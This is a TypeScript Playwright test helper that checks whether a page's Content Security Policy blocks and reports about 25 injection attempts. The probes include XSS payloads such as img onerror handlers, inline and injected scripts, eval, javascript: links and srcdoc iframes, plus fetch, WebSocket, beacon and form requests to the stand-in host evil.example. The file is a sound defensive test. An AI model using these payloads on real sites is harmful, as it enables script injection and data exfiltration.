import type { Page } from '@playwright/test';

/** What text would do to a page if it ran there: each is tried from inside the page, and each must be stopped and reported. */
export async function tryPolicy(page: Page): Promise<string[]> {
  return page.evaluate(async () => {
    const element = (tag: string, attributes: Record<string, string>, text = '') => {
      const made = document.createElement(tag);
      for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
      made.textContent = text;
      document.body.append(made);
      return made;
    };
    const probes: Record<string, () => unknown> = {
      'a page made of text': () => (document.body.innerHTML = '<img src=x onerror=struck(1)>'),
      'text put beside an element': () =>
        document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=struck(2)>'),
      'text read into a fragment': () =>
        document.createRange().createContextualFragment('<script>struck(3)</script>'),
      'text written into the page': () => document.writeln('<script>struck(4)</script>'),
      'a parser': () => new DOMParser().parseFromString('<script>struck(5)</script>', 'text/html'),
      'a handler on an element': () => element('img', { src: 'data:,', onerror: 'struck(6)' }),
      'a script with text': () => element('script', {}, 'struck(7)'),
      'a script from elsewhere': () => element('script', { src: 'https://evil.example/8.js' }),
      'text that is run': () => Reflect.get(globalThis, 'eval')('struck(9)'),
      'a function of text': () => Reflect.construct(Function, ['struck(10)'])(),
      'text that is run later': () => Reflect.apply(setTimeout, null, ['struck(11)', 0]),
      'a page inside the page, of text': () =>
        element('iframe', { srcdoc: '<script>parent.struck(12)</script>' }),
      'a page inside the page, of an address': () => element('iframe', { src: 'data:text/html,x' }),
      'a link that runs': () => element('a', { href: 'javascript:struck(14)' }).click(),
      'a style': () => element('style', {}, 'body { display: none }'),
      'a style from elsewhere': () =>
        element('link', { rel: 'stylesheet', href: 'https://evil.example/16.css' }),
      'a picture from elsewhere': () => element('img', { src: 'https://evil.example/17.png' }),
      'a request to elsewhere': () => fetch('https://evil.example/18'),
      'a socket': () => new WebSocket('wss://evil.example/19'),
      'a form': () => (element('form', { action: 'https://evil.example/20' }) as HTMLFormElement).submit(),
      'another base of all addresses': () => element('base', { href: 'https://evil.example/21/' }),
      'a worker': () => new Worker(URL.createObjectURL(new Blob(['struck(22)']))),
      'an object': () => element('object', { data: 'data:text/html,x' }),
      'a beacon': () => navigator.sendBeacon('https://evil.example/24', 'x'),
      'a sound from elsewhere': () => element('audio', { src: 'https://evil.example/25.mp3' }),
    };
    const unreported: string[] = [];
    for (const [name, probe] of Object.entries(probes)) {
      let reported = false;
      const hear = () => (reported = true);
      document.addEventListener('securitypolicyviolation', hear);
      try {
        await Promise.race([probe(), new Promise((resolve) => setTimeout(resolve, 300))]);
      } catch {
        // stopped with a fault, as it should be; the report is what counts
      }
      for (let waited = 0; !reported && waited < 20; waited += 1)
        await new Promise((resolve) => setTimeout(resolve, 50));
      document.removeEventListener('securitypolicyviolation', hear);
      if (!reported) unreported.push(name);
    }
    return unreported;
  });
}
